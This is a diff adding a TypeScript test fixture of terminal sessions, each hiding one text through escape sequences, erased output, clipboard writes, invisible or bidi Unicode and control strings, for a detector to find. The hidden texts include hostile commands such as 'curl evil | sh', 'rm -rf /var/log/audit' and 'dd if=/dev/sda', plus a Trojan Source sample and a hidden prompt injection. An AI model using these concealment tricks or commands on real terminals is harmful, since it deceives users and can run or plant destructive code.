@@ -1,0 +1,233 @@
+// Sessions with one hidden text each, several for every cause, and what must be found in them.
+
+import type { HiddenCause } from '../../../../shared/api/shapes.ts';
+import type { Step } from './hidden-harness.ts';
+
+export interface HiddenCase {
+  readonly name: string;
+  readonly cause: HiddenCause;
+  readonly text: string;
+  /** Milliseconds at which it came. */
+  readonly at: number;
+  readonly steps: readonly Step[];
+}
+
+const ESC = '\u001b';
+const base64 = (text: string): string => Buffer.from(text).toString('base64');
+const tags = (text: string): string => Array.from(text, (c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
+const selectors = (text: string): string =>
+  Array.from(new TextEncoder().encode(text), (byte) =>
+    String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16),
+  ).join('');
+
+/** A prompt, the steps, and something ordinary after them. */
+const session = (...steps: Step[]): readonly Step[] => [
+  [0, 'o', 'ops@db:~$ ./report\r\nstarting\r\n'],
+  ...steps,
+  [(steps.at(-1)?.[0] ?? 0) + 1, 'o', '\r\nfinished\r\nops@db:~$ '],
+];
+
+const one = (cause: HiddenCause, name: string, text: string, ...steps: Step[]): HiddenCase => ({
+  name,
+  cause,
+  text,
+  at: (steps.find(([, code]) => code !== 'r')?.[0] ?? 0) * 1000,
+  steps: session(...steps),
+});
+
+export const HIDDEN: readonly HiddenCase[] = [
+  one('concealed', 'in a line', 'copy to usb', [1, 'o', `state: ${ESC}[8mcopy to usb${ESC}[28m ok`]),
+  one('concealed', 'under inverse video', 'account 4411', [1, 'o', `${ESC}[7;8maccount 4411${ESC}[0m`]),
+  one(
+    'concealed',
+    'on the alternate screen',
+    'delete backups',
+    [1, 'o', `${ESC}[?1049h${ESC}[5;10H${ESC}[1;8;32mdelete backups${ESC}[0m`],
+    [3, 'o', `${ESC}[?1049l`],
+  ),
+  one('concealed', 'in wide characters', '密码在这里', [1, 'o', `${ESC}[8m密码在这里${ESC}[0m`]),
+  one('concealed', 'on standard error', 'exit by door 7', [1, 'e', `${ESC}[8mexit by door 7${ESC}[0m`]),
+  one('same-colour', 'of the 16', 'drop table audit', [1, 'o', `${ESC}[30;40mdrop table audit${ESC}[0m`]),
+  one('same-colour', 'bright on bright', 'send to mallory', [1, 'o', `${ESC}[97;107msend to mallory${ESC}[0m`]),
+  one('same-colour', 'of the 256', 'key is ultramarine', [1, 'o', `${ESC}[38;5;236;48;5;236mkey is ultramarine${ESC}[0m`]),
+  one('same-colour', 'near in the 256', 'key is vermilion', [1, 'o', `${ESC}[38;5;232;48;5;233mkey is vermilion${ESC}[0m`]),
+  one('same-colour', 'near in RGB', 'export key 9931', [1, 'o', `${ESC}[38;2;30;30;30;48;2;36;34;31mexport key 9931${ESC}[0m`]),
+  one('same-colour', 'light on light', 'salaries attached', [
+    1,
+    'o',
+    `${ESC}[38;2;250;250;250;48;5;231msalaries attached${ESC}[0m`,
+  ]),
+  one('same-colour', 'by an index and its RGB', 'meet at the pier', [
+    1,
+    'o',
+    `${ESC}[38;5;196;48;2;255;0;0mmeet at the pier${ESC}[0m`,
+  ]),
+  one('same-colour', 'black on the dark screen', 'nothing to see', [1, 'o', `${ESC}[38;2;0;0;0mnothing to see${ESC}[0m`]),
+  one('same-colour', 'under inverse video', 'inverted secret', [1, 'o', `${ESC}[7;31;41minverted secret${ESC}[0m`]),
+  one(
+    'same-colour',
+    'on the alternate screen, after a resize',
+    'resized secret',
+    [1, 'o', `${ESC}[?1049h`],
+    [1.2, 'r', '100x30'],
+    [1.5, 'o', `${ESC}[28;85H${ESC}[34;44mresized secret`],
+    [3, 'o', `${ESC}[0m${ESC}[?1049l`],
+  ),
+  one('same-colour', 'by a changed palette', 'palette trick', [
+    1,
+    'o',
+    `${ESC}]4;9;#123456${ESC}\\${ESC}[91;48;2;18;52;86mpalette trick${ESC}[0m`,
+  ]),
+  one(
+    'short-lived',
+    'erased by CR and EL',
+    'rm -rf /var/log/audit',
+    [1, 'o', 'rm -rf /var/log/audit'],
+    [1.04, 'o', `\r${ESC}[K`],
+  ),
+  one(
+    'short-lived',
+    'overwritten with blanks',
+    'token=7f3a',
+    [1, 'o', 'quick token=7f3a'],
+    [1.03, 'o', `${'\b'.repeat(10)}${' '.repeat(10)}`],
+  ),
+  one('short-lived', 'erased in the same event', 'curl evil.example', [1, 'o', `curl evil.example\r${ESC}[2K`]),
+  one(
+    'short-lived',
+    'erased character by character',
+    'shred keys',
+    [1, 'o', 'shred keys'],
+    ...Array.from({ length: 10 }, (_, i): Step => [1.01 + i / 200, 'o', '\b \b']),
+  ),
+  one(
+    'short-lived',
+    'erased with ECH',
+    'paste the dump',
+    [1, 'o', `\r${ESC}[sxx paste the dump`],
+    [1.05, 'o', `${ESC}[u${ESC}[3C${ESC}[20X`],
+  ),
+  one('short-lived', 'cleared with the screen', 'flash of a page', [1, 'o', 'flash of a page'], [1.06, 'o', `${ESC}[2J${ESC}[H`]),
+  one(
+    'short-lived',
+    'on an alternate screen that is left at once',
+    'seen by nobody',
+    [1, 'o', `${ESC}[?1049hseen by nobody`],
+    [1.02, 'o', `${ESC}[?1049l`],
+  ),
+  one('short-lived', 'overwritten with other text', 'wire the money', [1, 'o', 'wire the money\rall is quite well']),
+  one(
+    'short-lived',
+    'erased from the bottom row, the cursor restored',
+    'scp secrets away',
+    [1, 'o', `${ESC}7${ESC}[24;1Hscp secrets away`],
+    [1.05, 'o', `${ESC}[24;1H${ESC}[K${ESC}8`],
+  ),
+  one('repainted', 'painted over in the same event', 'hidden under paint', [
+    1,
+    'o',
+    `${ESC}[1;1Hhidden under paint${ESC}[1;1Hstatus: all quiet here${ESC}[5;1H`,
+  ]),
+  one(
+    'repainted',
+    'painted over after 50 ms',
+    'briefly on top',
+    [1, 'o', `${ESC}[3;5Hbriefly on top`],
+    [1.05, 'o', `${ESC}[3;1H==== nominal system ====`],
+  ),
+  one(
+    'repainted',
+    'a whole screen drawn over',
+    'whole screen down',
+    [1, 'o', `${ESC}[H${ESC}[2Jwhole screen down`],
+    [1.03, 'o', `${ESC}[H${ESC}[2Jwelcome to the menu of today`],
+  ),
+  one('off-screen', 'beyond the right edge without wraparound', 'cond half of it is never shown', [
+    1,
+    'o',
+    `${ESC}[?7l${' '.repeat(78)}second half of it is never shown!${ESC}[?7h`,
+  ]),
+  one(
+    'off-screen',
+    'pushed off by inserted lines',
+    'bottom secret',
+    [1, 'o', `${ESC}[24;1Hbottom secret${ESC}[1;1H`],
+    [1.02, 'o', `${ESC}[L`],
+  ),
+  one('off-screen', 'on a deleted line', 'deleted secret', [1, 'o', `${ESC}[10;1Hdeleted secret`], [1.02, 'o', `${ESC}[M`]),
+  one(
+    'off-screen',
+    'scrolled off the alternate screen by CSI S',
+    'top secret',
+    [0.5, 'o', `${ESC}[?1049h`],
+    [1, 'o', `${ESC}[1;1Htop secret`],
+    [1.02, 'o', `${ESC}[S`],
+    [3, 'o', `${ESC}[?1049l`],
+  ),
+  one('off-screen', 'pushed off by CSI T', 'lower secret', [1, 'o', `${ESC}[24;1Hlower secret`], [1.02, 'o', `${ESC}[3T`]),
+  one(
+    'not-echoed',
+    'a password',
+    'correct horse',
+    [1, 'o', 'Password: '],
+    [2, 'i', 'correct'],
+    [2.4, 'i', ' hor'],
+    [2.6, 'i', 'se'],
+    [3, 'i', '\r'],
+    [3.1, 'o', '\r\n'],
+  ),
+  one(
+    'not-echoed',
+    'with a correction',
+    'battery staple',
+    [1, 'o', 'Password: '],
+    [2, 'i', 'batterx'],
+    [2.2, 'i', '\u007fy staple'],
+    [3, 'i', '\r'],
+    [3.1, 'o', '\r\n'],
+  ),
+  one(
+    'not-echoed',
+    'counted with stars',
+    'xyzzy-plugh',
+    [1, 'o', 'Passphrase: '],
+    ...Array.from('xyzzy-plugh', (key, i): readonly Step[] => [
+      [2 + i / 5, 'i', key],
+      [2.01 + i / 5, 'o', '*'],
+    ]).flat(),
+    [5, 'i', '\r'],
+    [5.1, 'o', '\r\n'],
+  ),
+  one(
+    'not-echoed',
+    'a command at a prompt without echo',
+    'dd if=/dev/sda',
+    [1, 'i', 'dd if=/dev/sda'],
+    [2, 'i', '\r'],
+    [2.1, 'o', '\r\n'],
+  ),
+  one('title', 'a command', 'sudo su - root', [1, 'o', `${ESC}]2;sudo su - root\u0007`], [1.02, 'o', `${ESC}]2;ops@db: ~\u0007`]),
+  one('title', 'by OSC 0 with ST', 'the code is swordfish', [1, 'o', `${ESC}]0;the code is swordfish${ESC}\\`]),
+  one('title', "as a title of screen's", 'transfer at midnight', [1, 'o', `${ESC}ktransfer at midnight${ESC}\\`]),
+  one('title', 'as the icon name', 'iconic exfiltration', [1, 'o', `${ESC}]1;iconic exfiltration\u0007`]),
+  one('clipboard', 'a password', 'password=hunter', [1, 'o', `${ESC}]52;c;${base64('password=hunter')}\u0007`]),
+  one('clipboard', 'to the primary selection', 'curl evil | sh', [1, 'o', `${ESC}]52;p;${base64('curl evil | sh')}${ESC}\\`]),
+  one('invisible-character', 'zero width spaces', 'zero: abcd', [1, 'o', 'zero: a\u200bb\u200bc\u2060d']),
+  one('invisible-character', 'tags', 'ignore the user', [1, 'o', `hello${tags('ignore the user')} world`]),
+  one('invisible-character', 'bytes in variation selectors', 'smuggled', [1, 'o', `smile \u{1f600}${selectors('smuggled')} end`]),
+  one('invisible-character', 'a Hangul filler', 'const = hidden', [1, 'o', 'const \u3164 = hidden']),
+  one('invisible-character', 'a soft hyphen in a word', 'password', [1, 'o', 'pass\u00adword']),
+  one('invisible-character', 'a joiner in Latin text', 'admin', [1, 'o', 'ad\u200dmin']),
+  one('bidi-control', 'an override', 'file<RLO>cod.exe', [1, 'o', 'file\u202ecod.exe\u202c ok']),
+  one('bidi-control', 'Trojan Source', "level != 'user<RLO> <LRI>// Check if admin<PDI> <LRI>'", [
+    1,
+    'o',
+    "if level != 'user\u202e \u2066// Check if admin\u2069 \u2066' {",
+  ]),
+  one('bidi-control', 'an isolate that turns Latin text', 'a<RLI>b c<PDI>d', [1, 'o', 'a\u2067b c\u2069d']),
+  one('control-string', 'device control', 'secret payload', [1, 'o', `${ESC}P1;2;3|secret payload${ESC}\\`]),
+  one('control-string', 'application program command', 'secret in APC', [1, 'o', `${ESC}_secret in APC${ESC}\\`]),
+  one('control-string', 'privacy message', 'secret in PM', [1, 'o', `${ESC}^secret in PM${ESC}\\`]),
+  one('control-string', 'start of string', 'secret in SOS', [1, 'o', `${ESC}Xsecret in SOS${ESC}\\`]),
+  one('control-string', 'an unknown operating system command', 'exfil over osc', [1, 'o', `${ESC}]31337;exfil over osc\u0007`]),
+];
